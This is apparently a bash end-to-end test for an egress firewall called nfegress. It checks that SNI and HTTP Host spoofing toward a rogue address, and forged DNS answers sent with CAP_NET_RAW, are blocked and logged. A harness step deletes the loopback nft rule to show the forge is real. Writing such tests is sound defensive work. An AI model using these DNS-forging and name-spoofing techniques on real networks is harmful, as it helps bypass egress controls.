#!/usr/bin/env bash
# tests/attack/name_binding.sh — issue 17: an allowed name sent to an address it does not resolve to. The attacker
# runs a server at ROGUE (203.0.113.66 / 2001:db8:ff::66) in the same Deny network as allowed.example; no name
# resolves there. With no privilege it sends a ClientHello with SNI allowed.example and an HTTP request with Host
# allowed.example to ROGUE; with CAP_NET_RAW it first sends a real query to the resolver and forges its answer,
# binding allowed.example to ROGUE (from the resolver's address and port 53 to the query's port, so conntrack
# counts it as the reply; it travels on lo, where nothing is learned). Every attempt must leave 0 bytes of its
# marker at ROGUE, while the same requests to allowed.example's own address arrive.
source "$(dirname "$0")/lib.sh"
e2e_need init enforce
ROGUE4=203.0.113.66 ROGUE6=2001:db8:ff::66
# The answers of this resolver are learned (--dns-servers); the attacker forges its address. It is in the Allow
# network, so the attacker's own query to it leaves and conntrack holds the flow its forged answer claims to reply to.
RESOLVER=198.51.100.53 RESOLVER6=2001:db8:aa::53
ATTACK_EXTRA_HOSTS=("$ROGUE4" "$ROGUE6")
attack_sandbox
KOPTS=(--dns-servers "$RESOLVER,$RESOLVER6")

echo "== harness: before nfegress runs, the techniques reach the attacker's server"
m=$(marker pre-tls); attack none --marker "$m" tls "$ROGUE4" allowed.example
expect_arrived "ClientHello SNI allowed.example to $ROGUE4, nothing enforced yet" "$m"
m=$(marker pre-http); attack none --marker "$m" http "$ROGUE6" allowed.example --path /get
expect_arrived "HTTP Host allowed.example to $ROGUE6, nothing enforced yet" "$m"

attack_enforce
grep -q "DNS answers of 2 resolver" "$NS_TMP/init.out" || { cat "$NS_TMP/init.out" >&2; fail "no DNS answer queue"; }
echo "== controls: the allowed name to its own address"
m=$(marker ctl-tls); attack none --marker "$m" tls "$DENY4" allowed.example
expect_arrived "ClientHello SNI allowed.example to $DENY4" "$m"
m=$(marker ctl-http6); attack none --marker "$m" http "$DENY6" allowed.example --path /get
expect_arrived "HTTP Host allowed.example /get to $DENY6" "$m"

echo "== the allowed name to the attacker's address (no privilege)"
for dst in "$ROGUE4" "$ROGUE6"; do
  m=$(marker "sni-$dst"); attack none --marker "$m" tls "$dst" allowed.example
  expect_blocked "ClientHello SNI allowed.example to $dst" "$m"
  m=$(marker "host-$dst"); attack none --marker "$m" http "$dst" allowed.example --path /get
  expect_blocked "HTTP Host allowed.example /get to $dst" "$m"
done

echo "== forged DNS answers binding allowed.example to the attacker (CAP_NET_RAW), then the same"
m=$(marker forge4); attack net_raw --marker "$m" dnsforge "$RESOLVER" "$POD4" allowed.example "$ROGUE4"
expect_blocked "forged A answer on lo, then SNI allowed.example to $ROGUE4" "$m"
m=$(marker forge6); attack net_raw --marker "$m" dnsforge "$RESOLVER6" "$POD6" allowed.example "$ROGUE6"
expect_blocked "forged AAAA answer on lo, then SNI allowed.example to $ROGUE6" "$m"
log_wait "$NS_TMP/enforce.log" "does not resolve to ${ROGUE4//./\\.}"
grep -q "does not resolve to $ROGUE4" "$NS_TMP/enforce.log" || fail "the decision log names no binding failure"
pass "decision log: allowed.example does not resolve to $ROGUE4"
echo "== harness: the forge is real — with loopback answers learned (the lo rule removed), it gets through"
h=$(in_pod nft -a list chain inet nfegress dns_answers 2>/dev/null | awk '/iif "lo" accept/ {print $NF}')
[ -n "$h" ] || fail "no iif lo rule in chain dns_answers"
in_pod nft delete rule inet nfegress dns_answers handle "$h" || fail "delete the lo rule"
m=$(marker forge4-harness); attack net_raw --marker "$m" dnsforge "$RESOLVER" "$POD4" allowed.example "$ROGUE4"
expect_arrived "forged A answer learned once lo is not excluded" "$m"
attack_finish
